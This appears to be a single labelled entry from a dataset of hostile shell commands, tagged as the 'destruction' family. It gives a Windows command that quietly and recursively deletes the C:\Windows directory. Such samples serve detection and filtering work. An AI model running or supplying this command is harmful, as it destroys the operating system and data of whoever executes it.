# description: Removes the Windows directory with cmd's rd /s /q.
# family: destruction
cmd.exe /c rd /s /q C:\Windows
